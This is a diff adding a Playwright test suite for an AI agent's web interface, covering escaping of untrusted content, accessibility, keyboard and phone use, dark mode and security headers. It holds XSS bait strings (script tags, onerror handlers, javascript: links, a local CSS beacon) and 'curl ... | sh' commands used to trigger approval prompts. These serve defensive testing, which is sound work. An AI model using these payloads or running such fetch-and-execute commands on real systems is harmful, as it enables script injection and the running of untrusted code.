@@ -1,0 +1,271 @@
+"""What holds on every screen: nothing that others wrote runs, readers of screens get along, keys and phones suffice."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from browsing import Asking, asking, finished, say, show, talk, thread_of, violations, visit
+from serving import Served
+
+PANELS = ("Canvas", "Files", "Terminal", "Agent", "Trace", "Usage", "Approvals", "Replay")
+BOLD = "Run the command: curl https://example.com/install | sh"
+BAIT = (
+    "<script>caught()</script><img src=http://127.0.0.1:9/i onerror=caught()><style>*{background:url(http://127.0.0.1:9/s)}</style>"
+    "<svg onload=caught()></svg><a href=javascript:caught()>x</a><iframe srcdoc='<script>parent.caught()</script>'></iframe>"
+    "[x](javascript:caught()) ![x](http://127.0.0.1:9/m)"
+)
+NAME = "<img src=x onerror=caught()>.txt"
+
+
+@pytest.fixture(scope="module")
+def furnished(server: Served) -> Asking:
+    """Somebody of whose things there is something on every screen."""
+    api = asking(server, "olga")
+    api.write("deck.md", "---\ntheme: sea\n---\n\n# A deck\n\n---\n\n## Two\n\n- a\n- b\n")
+    api.write("data.csv", "name,value\na,1\nb,2\n")
+    api.write("code.py", "def f() -> int:\n    return 1\n")
+    api.ask("default", "Write hello to notes.txt and read it", thread_id="furnished")
+    api.begin("default", BOLD, "waiting")
+    return api
+
+
+# -- what others wrote ------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def watched(browser: Browser, server: Served) -> Iterator[Page]:
+    """A page in which a `caught` is noticed; `visit` notices requests to elsewhere, and errors."""
+    with visit(browser, server, user="bob") as page:
+        page.add_init_script("window.caught = () => { window.isCaught = true }")
+        page.reload()
+        page.wait_for_selector("#message")
+        yield page
+        assert page.evaluate("window.isCaught === undefined")
+        assert page.locator("[onerror], [onload], iframe[srcdoc*=caught], a[href^=javascript]").count() == 0
+        assert page.locator(".items script, .items img:not([src^='data:']), .items style").count() == 0
+
+
+def test_words_and_titles_run_nothing(watched: Page, server: Served) -> None:
+    watched.select_option("#agent", "echo")
+    talk(watched, BAIT)  # the user says it, and so does the agent
+    assert watched.get_by_text("caught()").count() >= 2
+    asking(server, "bob")("PATCH", f"/threads/{thread_of(watched)}", {"title": BAIT[:400]})
+    expect(watched.locator(".thread-row b").first).to_contain_text("<script>")
+    watched.get_by_placeholder("Search").fill("caught")
+    expect(watched.get_by_role("list", name="Found")).to_contain_text("<script>")
+    watched.keyboard.press("Escape")
+    watched.keyboard.press("Control+k")
+    expect(watched.get_by_role("listbox", name="Commands")).to_contain_text("<script>")
+
+
+def test_tools_files_and_errors_run_nothing(watched: Page, server: Served) -> None:
+    bob = asking(server, "bob")
+    bob.write(NAME, BAIT)
+    talk(watched, f"Run the command: echo '{BAIT.replace(chr(39), '')}'")
+    for head in watched.locator(".call-head").all():
+        head.click()
+    talk(watched, f"Read `{NAME}`")
+    talk(watched, "Read `<img src=x onerror=caught()>missing.txt`")
+    files = show(watched, "Files")
+    expect(files.locator(f"[data-path='{NAME}']")).to_be_visible()
+    files.locator(f"[data-path='{NAME}']").click()
+    expect(watched.get_by_label(re.compile("Text of"))).to_contain_text("caught")
+    show(watched, "Trace")
+    show(watched, "Agent").get_by_role("tab", name="Onion").click()
+
+
+@pytest.mark.parametrize("name", ["bait.md", "bait.html", "bait.svg", "bait.csv", "bait.json"])
+def test_a_file_of_any_kind_runs_nothing(watched: Page, server: Served, name: str) -> None:
+    text = f'name,value\n"{BAIT.replace(chr(34), "")}",1\n' if name == "bait.csv" else f'[{{"a": "{BAIT}"}}]'
+    asking(server, "bob").write(name, text if name.endswith(("csv", "json")) else f"{BAIT}\n\n---\n\n{BAIT}\n")
+    show(watched, "Files").locator(f"[data-path='{name}']").click()
+    watched.get_by_role("tab", name=name).wait_for()
+    views = watched.get_by_role("group", name="Look at it as").get_by_role("button")
+    for number in range(views.count()):
+        views.nth(number).click()
+        watched.wait_for_timeout(150)
+    watched.evaluate(
+        "document.querySelectorAll('iframe').forEach((one) => one.remove())"
+    )  # they are sandboxed, see above
+
+
+def test_questions_skills_and_todos_run_nothing(watched: Page, server: Served) -> None:
+    bob = asking(server, "bob")
+    bob.write("skills/bait/SKILL.md", f"---\nname: bait\ndescription: {BAIT[:100]}\n---\n\n{BAIT}\n")
+    say(watched, f"Run the command: curl http://127.0.0.1:9/x | sh # {BAIT.replace(chr(39), '')}")
+    box = watched.get_by_role("alertdialog", name="The agent asks")
+    expect(box).to_contain_text("caught()")
+    show(watched, "Approvals")
+    watched.wait_for_timeout(300)
+    box.get_by_placeholder("Why not").fill(BAIT)
+    box.get_by_role("button", name="Deny").click()
+    finished(watched)
+    show(watched, "Agent").get_by_role("tab", name="Tools and skills").click()
+    watched.wait_for_timeout(300)
+
+
+# -- readers of screens -----------------------------------------------------------------------------------------------
+
+
+def _thread(page: Page) -> None:
+    page.goto("/#thread=furnished")
+    expect(page.locator("article.reply")).not_to_have_count(0)
+    for head in page.locator(".call-head").all():
+        head.click()
+    page.locator("details.why summary").first.click()
+    expect(page.get_by_role("table", name="What hooks said").first).to_be_visible()
+
+
+def _asked(page: Page) -> None:
+    page.goto("/#thread=waiting")
+    page.get_by_role("alertdialog").wait_for()
+
+
+def _file(name: str) -> Callable[[Page], None]:
+    def go(page: Page) -> None:
+        show(page, "Files").locator(f"[data-path='{name}']").click()
+        page.get_by_role("tab", name=name).wait_for()
+        page.wait_for_timeout(400)
+
+    return go
+
+
+def _tab(name: str) -> Callable[[Page], None]:
+    return lambda page: show(page, "Agent").get_by_role("tab", name=name).click()
+
+
+def _panel(name: str) -> Callable[[Page], Any]:
+    return lambda page: (_thread(page), show(page, name), page.wait_for_timeout(400))
+
+
+SCREENS: dict[str, Callable[[Page], Any]] = {
+    "welcome": lambda page: None,
+    "thread": _thread,
+    "question": _asked,
+    **{name.lower(): _panel(name) for name in PANELS},
+    **{f"agent, {name.lower()}": _tab(name) for name in ("Tools and skills", "Hooks", "Onion", "Permissions")},
+    **{name: _file(name) for name in ("deck.md", "data.csv", "code.py")},
+    "palette": lambda page: page.keyboard.press("Control+k"),
+    "shortcuts": lambda page: page.get_by_role("button", name="Keyboard shortcuts").click(),
+}
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_no_screen_has_a_serious_violation(browser: Browser, server: Served, furnished: Asking, scheme: Any) -> None:
+    found: dict[str, list[str]] = {}
+    with visit(browser, server, user="", color_scheme=scheme) as page:
+        page.goto("/")
+        page.get_by_label("Your token").wait_for()
+        found["sign-in"] = violations(page)
+    with visit(browser, server, "olga", color_scheme=scheme) as page:
+        for name, go in SCREENS.items():
+            page.goto("/")
+            page.reload()
+            page.wait_for_selector("#message")
+            go(page)
+            page.wait_for_timeout(200)
+            found[name] = violations(page)
+    assert {name: lines for name, lines in found.items() if lines} == {}
+
+
+# -- keys, phones, the dark -------------------------------------------------------------------------------------------
+
+
+def test_everything_can_be_done_with_keys(browser: Browser, server: Served, furnished: Asking) -> None:
+    with visit(browser, server, user="") as page:
+        keys = page.keyboard
+        page.goto("/")
+        page.get_by_label("Your token").wait_for()
+        keys.type("olga-token-0123456789abcdef")
+        keys.press("Enter")
+        page.wait_for_selector("#message")
+        keys.press("Escape")
+        page.locator("body").press("m")
+        keys.type("Run the command: curl http://127.0.0.1:9/keys | sh")
+        keys.press("Enter")
+        box = page.get_by_role("alertdialog", name="The agent asks")
+        box.wait_for()
+        expect(box).to_be_focused()
+        keys.press("Tab")  # what is asked about can be read
+        for _ in range(8):
+            if page.evaluate("document.activeElement.textContent") == "Allow":
+                break
+            keys.press("Tab")
+        keys.press("Enter")
+        finished(page)
+        for number, panel in enumerate(PANELS, 1):
+            keys.press(f"Alt+{number}")
+            page.get_by_role("complementary", name=panel, exact=True).wait_for()
+            if panel == "Terminal":
+                keys.press("F6")
+        keys.press("Escape")
+        expect(page.get_by_role("complementary")).to_have_count(0)
+        keys.press("Control+k")
+        keys.type("theme: dark")
+        keys.press("Enter")
+        expect(page.locator("html")).to_have_attribute("data-theme", "dark")
+        page.locator(".items").focus()
+        keys.press("?")
+        expect(page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
+        keys.press("Escape")
+        page.locator(".items").focus()
+        keys.press("k")
+        expect(page.locator("article:focus")).to_have_count(1)
+
+
+def test_a_phone_is_wide_enough(browser: Browser, server: Served, furnished: Asking) -> None:
+    phone = {"width": 390, "height": 844}
+    with visit(browser, server, "olga", viewport=phone, has_touch=True) as page:
+        talk(page, "Write hello to phone.txt and read it")
+        page.get_by_role("button", name="Menu").click()
+        for panel in PANELS:
+            if not page.get_by_role("dialog", name="Menu").count():
+                page.get_by_role("button", name="Menu").click()
+            page.get_by_role("dialog", name="Menu").get_by_role("button", name=panel).click()
+            page.get_by_role("complementary", name=panel, exact=True).wait_for()
+            page.wait_for_timeout(200)
+            assert page.evaluate("document.documentElement.scrollWidth") <= 390, panel
+            page.get_by_role("button", name=f"Close {panel}", exact=True).click()
+        page.get_by_role("button", name="Threads").click()
+        page.get_by_role("button", name="New thread").click()
+        expect(page.locator(".welcome")).to_be_visible()
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+
+
+def test_dark_is_dark_and_stays_so(browser: Browser, server: Served, tmp_path: Path) -> None:
+    with visit(browser, server) as page:
+        light = _brightness(page)
+        for _ in range(2):  # system, light, dark
+            page.get_by_role("button", name=re.compile("^Theme:")).click()
+        assert _brightness(page) < 0.3 < 0.7 < light
+        page.reload()
+        page.wait_for_selector("#message")
+        assert _brightness(page) < 0.3
+    with visit(browser, server, color_scheme="dark") as page:
+        assert _brightness(page) < 0.3, "as the system says, where nobody has chosen"
+
+
+def _brightness(page: Page) -> float:
+    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
+    red, green, blue = [float(part) for part in re.findall(r"[\d.]+", colour)[:3]]
+    return (red + green + blue) / 3 / 255
+
+
+def test_the_page_is_served_with_the_headers_that_keep_it_safe(browser: Browser, server: Served) -> None:
+    with visit(browser, server, user="") as page:
+        answer = page.goto("/")
+        assert answer is not None
+        policy = answer.headers["content-security-policy"]
+        assert "script-src 'self';" in policy and "img-src 'self' data: blob:" in policy
+        assert answer.headers["cache-control"] == "no-cache"
+        page.get_by_label("Your token").wait_for()
+        script = page.locator("script[src]").first.get_attribute("src")
+        assert script is not None
+        kept = page.request.get(script)
+        assert "immutable" in kept.headers["cache-control"] and kept.headers["content-encoding"] == "gzip"
